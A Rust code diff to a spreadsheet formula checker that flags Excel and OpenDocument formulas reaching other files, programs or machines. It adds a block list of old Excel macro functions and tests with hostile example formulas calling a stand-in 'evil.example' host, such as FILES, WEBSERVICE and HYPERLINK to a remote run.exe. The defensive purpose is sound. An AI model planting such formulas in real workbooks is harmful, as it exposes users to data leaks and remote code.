@@ -6,13 +6,33 @@
 //!
 //! Grammars: ECMA-376 part 1, 18.17; OASIS OpenDocument 1.3 part 4, 5.
 
+use std::collections::HashSet;
+
+/// The names of a workbook's sheets that are kept, in small letters.
+pub(super) type Sheets = HashSet<String>;
+
 /// Which brackets a formula has.
-#[derive(Clone, Copy, PartialEq, Eq)]
-pub(super) enum Grammar {
+#[derive(Clone, Copy)]
+pub(super) enum Grammar<'s> {
     /// Excel's: of other books, and behind a table's name of its columns.
-    Excel,
+    Excel(&'s Sheets),
     /// OpenFormula's: of references.
     OpenDocument,
+}
+
+impl Grammar<'_> {
+    fn is_excel(self) -> bool {
+        matches!(self, Self::Excel(_))
+    }
+}
+
+/// Whether a name is one that Excel lets a sheet have.
+pub(super) fn is_sheet_name(name: &str) -> bool {
+    !name.is_empty()
+        && name.chars().count() <= 31
+        && !name.contains(['[', ']', '\\', '/', '?', '*', ':'])
+        && !name.starts_with('\'')
+        && !name.ends_with('\'')
 }
 
 /// Functions that call out, without what stands before their names.
@@ -47,10 +67,55 @@ const FUNCTIONS: &[&str] = &[
     "IMPORTFEED",
     "IMPORTRANGE",
     "MACRO",
+    // Excel's old macro language, of which names take some.
+    "FILES",
+    "DIRECTORY",
+    "DOCUMENTS",
+    "LINKS",
+    "OPEN",
+    "OPEN.LINKS",
+    "OPEN.TEXT",
+    "OPEN.XML",
+    "OPEN.DATABASE",
+    "CHANGE.LINK",
+    "UPDATE.LINK",
+    "GET.LINK.INFO",
+    "FREAD",
+    "FREADLN",
+    "FWRITE",
+    "FWRITELN",
+    "FSIZE",
+    "FCLOSE",
+    "FILE.DELETE",
+    "FILE.EXISTS",
+    "CREATE.DIRECTORY",
+    "DELETE.DIRECTORY",
+    "SAVE",
+    "SAVE.AS",
+    "SEND.MAIL",
+    "SEND.KEYS",
+    "SEND.TO.MAIL.RECIPIENT",
+    "INSERT.OBJECT",
+    "INSERT.PICTURE",
+    "UNREGISTER",
+    "TERMINATE",
+    "ON.TIME",
+    "ON.DATA",
+    "ON.SHEET",
+    "ON.WINDOW",
+    "ON.RECALC",
+    "ON.ENTRY",
+    "ON.KEY",
+    "APP.ACTIVATE",
+    "GOTO",
 ];
 
 /// What stands before names of functions, by the program that has them.
-const BEFORE: &[&str] = &["_XLFN.", "_XLWS.", "COM.MICROSOFT.", "ORG.OPENOFFICE.", "ORG.LIBREOFFICE."];
+const BEFORE: &[&str] =
+    &["_XLFN.", "_XLWS.", FUNCTION_ITSELF, "COM.MICROSOFT.", "ORG.OPENOFFICE.", "ORG.LIBREOFFICE."];
+
+/// What Excel writes before the name of a function that is given to another one, which calls it: `MAP(A1:A3,SUM)`.
+const FUNCTION_ITSELF: &str = "_XLETA.";
 
 /// What stands after the sign of an error.
 const ERRORS: &[&str] = &[
@@ -71,10 +136,31 @@ const ERRORS: &[&str] = &[
 ];
 
 /// Whether a formula asks another file, program or machine.
-pub(super) fn calls_out(formula: &str, grammar: Grammar) -> bool {
+pub(super) fn calls_out(formula: &str, grammar: Grammar<'_>) -> bool {
     let mut reading = Reading { rest: formula, before: ' ', rows: 0, grammar };
     while !reading.rest.is_empty() {
         if reading.part().is_none() {
+            return true;
+        }
+    }
+    false
+}
+
+/// Whether the address of cells of an OpenDocument (or several, with blanks between) leads to another file.
+pub(super) fn leads_out(address: &str) -> bool {
+    let mut reading = Reading { rest: address, before: ' ', rows: 0, grammar: Grammar::OpenDocument };
+    while let Some(letter) = reading.rest.chars().next() {
+        let passed = match letter {
+            '\'' => reading.sheet(true),
+            '#' => reading.error(),
+            // What stands in no name of a sheet.
+            '[' | ']' | '\\' | '/' | '"' => None,
+            letter => {
+                reading.skip(letter.len_utf8());
+                Some(())
+            }
+        };
+        if passed.is_none() {
             return true;
         }
     }
@@ -87,7 +173,7 @@ struct Reading<'f> {
     before: char,
     /// How deep within written tables, whose rows are divided by bars in OpenDocument.
     rows: u32,
-    grammar: Grammar,
+    grammar: Grammar<'f>,
 }
 
 fn is_word(letter: char) -> bool {
@@ -107,10 +193,10 @@ impl<'f> Reading<'f> {
         let letter = self.rest.chars().next()?;
         match letter {
             '"' => self.quoted('"').map(drop),
-            '\'' => self.sheet(),
-            '[' if self.grammar == Grammar::Excel => self.table(),
+            '\'' => self.sheet(false),
+            '[' if self.grammar.is_excel() => self.table(),
             '[' => self.reference(),
-            '|' | '｜' if self.grammar == Grammar::Excel || self.rows == 0 => None,
+            '|' | '｜' if self.grammar.is_excel() || self.rows == 0 => None,
             // A path.
             '\\' => None,
             '/' if self.rest.starts_with("//") => None,
@@ -144,13 +230,31 @@ impl<'f> Reading<'f> {
         }
     }
 
-    /// The name of a sheet in quotes. Names of sheets have none of the signs that paths and books have.
-    fn sheet(&mut self) -> Option<()> {
+    /// The name of a sheet in quotes; it has none of the signs that paths and books have. `is_address` is whether nothing but
+    /// the address of cells of an OpenDocument can stand there, where a file has a sign of its own behind it.
+    fn sheet(&mut self, is_address: bool) -> Option<()> {
         let name = self.quoted('\'')?;
-        let is_path =
-            name.contains(['[', ']', '\\', '/', '*', '?', '|', '｜', '#']) || name.contains("file:");
+        let is_path = name.contains(['[', ']', '\\', '/', '*', '?']) || name.contains("file:");
+        let is_other = match self.grammar {
+            _ if is_address => self.rest.trim_start().starts_with('#'),
+            // A program and what it is asked for stand before and behind a bar.
+            Grammar::Excel(sheets) => name.contains(['|', '｜']) && !self.is_cell_of(name, sheets),
+            Grammar::OpenDocument => name.contains(['|', '｜', '#']),
+        };
         // A name that a program is asked for would come next.
-        (!is_path && !self.calls_behind()).then_some(())
+        (!is_path && !is_other && !self.calls_behind()).then_some(())
+    }
+
+    /// Whether a name in quotes is that of a sheet of this workbook, and a cell of it follows.
+    fn is_cell_of(&self, name: &str, sheets: &Sheets) -> bool {
+        let cell = self.rest.strip_prefix('!').unwrap_or_default();
+        let cell = cell.strip_prefix('$').unwrap_or(cell);
+        let row = cell.trim_start_matches(|letter: char| letter.is_ascii_alphabetic());
+        let is_column = (1..=3).contains(&(cell.len() - row.len()));
+        let row = row.strip_prefix('$').unwrap_or(row);
+        is_column
+            && row.starts_with(|digit| matches!(digit, '1'..='9'))
+            && sheets.contains(&name.replace("''", "'").to_lowercase())
     }
 
     /// Whether a function follows that belongs to another book.
@@ -201,7 +305,7 @@ impl<'f> Reading<'f> {
             match letter {
                 ']' if is_empty => return None,
                 ']' => break,
-                '\'' => self.sheet()?,
+                '\'' => self.sheet(true)?,
                 '#' => self.error()?,
                 letter if is_word(letter) || matches!(letter, '$' | ':' | ' ' | '!' | '-') => {
                     self.skip(letter.len_utf8());
@@ -217,7 +321,7 @@ impl<'f> Reading<'f> {
 
     /// The sign of an error, or the one behind a cell from which others are filled.
     fn error(&mut self) -> Option<()> {
-        let is_filled = is_word(self.before) || self.before == ')';
+        let is_filled = self.grammar.is_excel() && (is_word(self.before) || self.before == ')');
         self.skip(1);
         if let Some(error) = ERRORS.iter().find(|error| self.rest.starts_with(**error)) {
             self.skip(error.len());
@@ -233,11 +337,9 @@ impl<'f> Reading<'f> {
         let end = self.rest.find(|letter| !is_word(letter)).unwrap_or(self.rest.len());
         let word = self.skip(end);
         let behind = self.rest.trim_start();
-        let Some(arguments) = behind.strip_prefix(['(', '（']) else {
-            // The sheet of another book's function.
-            return (!self.calls_behind() || self.grammar == Grammar::OpenDocument).then_some(());
-        };
-        if is_behind && self.grammar == Grammar::Excel {
+        let arguments = behind.strip_prefix(['(', '（']);
+        // The sheet of another book's function, or the function.
+        if arguments.map_or_else(|| self.calls_behind(), |_| is_behind) && self.grammar.is_excel() {
             return None;
         }
         // Programs take full-width letters for these as well.
@@ -247,12 +349,15 @@ impl<'f> Reading<'f> {
         };
         let upper: String = word.chars().map(narrow).collect::<String>().to_uppercase();
         let mut name = upper.as_str();
+        if arguments.is_none() && !name.contains(FUNCTION_ITSELF) {
+            return Some(());
+        }
         while let Some(bare) = BEFORE.iter().find_map(|before| name.strip_prefix(before)) {
             name = bare;
         }
         let is_of_others =
             name.starts_with("_XLL.") || name.starts_with("COM.SUN.") || name.starts_with("CUBE");
-        let leads_away = name == "HYPERLINK" && !is_open_address(arguments);
+        let leads_away = name == "HYPERLINK" && !is_open_address(arguments.unwrap_or_default());
         (!FUNCTIONS.contains(&name) && !is_of_others && !leads_away).then_some(())
     }
 }
@@ -265,14 +370,24 @@ fn is_open_address(arguments: &str) -> bool {
     let address = address.trim().to_ascii_lowercase();
     // More may be put behind it; then the machine's name must have ended.
     let names_machine = address.splitn(3, '/').nth(2).is_some_and(|rest| rest.contains('/'));
-    address.starts_with('#') && !address.contains("script:")
+    let place = address.strip_prefix('#').filter(|place| super::address::is_inside(place));
+    // What is put behind a place is no sheet once there is one.
+    place.is_some_and(|place| is_whole || place.contains('!'))
         || address.starts_with("mailto:")
         || super::address::is_open(&address) && (is_whole || names_machine)
 }
 
 #[cfg(test)]
 mod tests {
-    use super::{Grammar::*, *};
+    use super::*;
+
+    fn excel(formula: &str) -> bool {
+        calls_out(formula, Grammar::Excel(&Sheets::from(["a|b".to_owned()])))
+    }
+
+    fn opendocument(formula: &str) -> bool {
+        calls_out(formula, Grammar::OpenDocument)
+    }
 
     #[test]
     fn formulas_of_excel_that_call_out_are_known_in_every_spelling() {
@@ -305,6 +420,18 @@ mod tests {
             "RTD(\"x\",,\"y\")",
             "SUM(OFFSET(INDIRECT(\"'http://x/[a.xlsx]S'!A1\"),1,1))",
             "INDIRECT(B1)",
+            "FILES(\"\\\\evil.example\\s\\*\")",
+            "_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)",
+            "_xlfn.LET(_xlpm.f,_xleta.webservice,_xlpm.f(A1))",
+            "'A|C'!A1",
+            "'A|B'!A0",
+            "'A|B'!Name",
+            "'工事｜道路'!A1",
+            "'x.ods'#$Sheet1.A1",
+            "HYPERLINK(\"#[\\\\evil.example\\s\\a.xlsx]S!A1\")",
+            "HYPERLINK(\"#\"&A1)",
+            "HYPERLINK(\"#'\"&A1&\"'!A1\",A1)",
+            "HYPERLINK(\"#file:///c:/x\")",
             "HYPERLINK(\"file:///c:/x\")",
             "HYPERLINK(\"\\\"&\"\\evil.example\\s\\run.exe\",\"x\")",
             "HYPERLINK(A1)",
@@ -313,7 +440,7 @@ mod tests {
             "'never ends",
             "\"never ends",
         ] {
-            assert!(calls_out(formula, Excel), "{formula}");
+            assert!(excel(formula), "{formula}");
         }
         for formula in [
             "SUM(A1:B2)",
@@ -333,9 +460,14 @@ mod tests {
             "HYPERLINK(\"https://x/\")",
             "HYPERLINK(\"https://x/?q=\"&A1,\"地図\")",
             "HYPERLINK(\"#表!A1\",\"戻る\")",
+            "HYPERLINK(\"#'表 1'!A\"&ROW(),\"戻る\")",
+            "'#1 工事'!A1+SUM('#1 工事'!$A$1:$B$2)",
+            "'a|B'!$A$1+'A|b'!A2",
+            "_xlfn.MAP(A1:A3,_xleta.SUM)",
+            "Files+OPEN",
             "TEXT(A1,\"yyyy/m/d\")&\"http://x\"",
         ] {
-            assert!(!calls_out(formula, Excel), "{formula}");
+            assert!(!excel(formula), "{formula}");
         }
     }
 
@@ -348,6 +480,9 @@ mod tests {
             "of:=['x.ods'#$Sheet1.A1]",
             "of:=['x.ods' # $Sheet1.A1]",
             "of:=[x.ods#Sheet1.A1]",
+            "of:=[x.ods# $Sheet1.A1]",
+            "of:=['#1 x.ods'#$Sheet1.A1]",
+            "of:='A|B'!A1",
             "oooc:='file:///x.ods'#Sheet1.A1",
             "of:=WEBSERVICE([.A1])",
             "of:=INDIRECT(\"'http://x/'#$src.A1\")",
@@ -358,7 +493,7 @@ mod tests {
             "of:=[1]Sheet!A1",
             "of:=HYPERLINK(\"file:///c:/x\")",
         ] {
-            assert!(calls_out(formula, OpenDocument), "{formula}");
+            assert!(opendocument(formula), "{formula}");
         }
         for formula in [
             "of:=SUM([.A1:.B2])",
@@ -368,12 +503,41 @@ mod tests {
             "of:=IF([.A1]=0;#REF!;1)",
             "of:=SUM([.#REF!A1])+[#REF!.A1]",
             "of:=SUM([.A1:.B2]![.B2:.C3])",
+            "of:=SUM([$'#1 工事'.A1:.B2])+[$'A|B'.A1]",
             "of:=HYPERLINK(\"https://www.city.kanazawa.lg.jp/\")",
             "ooow:<A1>+<B2>/2",
             "cell-content()>10",
             "is-true-formula([.A1]=0)",
         ] {
-            assert!(!calls_out(formula, OpenDocument), "{formula}");
+            assert!(!opendocument(formula), "{formula}");
+        }
+    }
+
+    #[test]
+    fn addresses_of_cells_in_another_file_are_known() {
+        for address in [
+            "'file:///tmp/x.ods'#$src.$A$2",
+            "'file:///tmp/x.ods' #$src.$A$2",
+            "x.ods#$src.A1",
+            "file:///x.ods#src.A1",
+            "$a.A1 'x.ods'#$b.A1",
+            "\\\\evil\\x.ods",
+            "'http://x/[a.xlsx]S'!A1",
+            "'never ends",
+        ] {
+            assert!(leads_out(address), "{address}");
+        }
+        for address in [
+            "",
+            "$表.$A$1:.$B$2",
+            "$'#1 工事・道路'.$A$1:$'#1 工事・道路'.$B$2 $b.A1",
+            "'it''s'.A1",
+            "工事・道路(1).A1:工事・道路(1).B2",
+            "$a.#REF!",
+            "#REF!.A1",
+            "local-table.$B$2:.$B$5",
+        ] {
+            assert!(!leads_out(address), "{address}");
         }
     }
 
@@ -381,8 +545,8 @@ mod tests {
     fn a_long_formula_is_read_in_time_that_grows_with_it() {
         for piece in ["[", "'", "\"", "a(", "a!", "[a]", "(", " (", "a ", "#"] {
             let begun = std::time::Instant::now();
-            calls_out(&piece.repeat((1 << 17) / piece.len()), Excel);
-            calls_out(&piece.repeat((1 << 17) / piece.len()), OpenDocument);
+            excel(&piece.repeat((1 << 17) / piece.len()));
+            opendocument(&piece.repeat((1 << 17) / piece.len()));
             assert!(begun.elapsed() < std::time::Duration::from_secs(5), "{piece}");
         }
     }
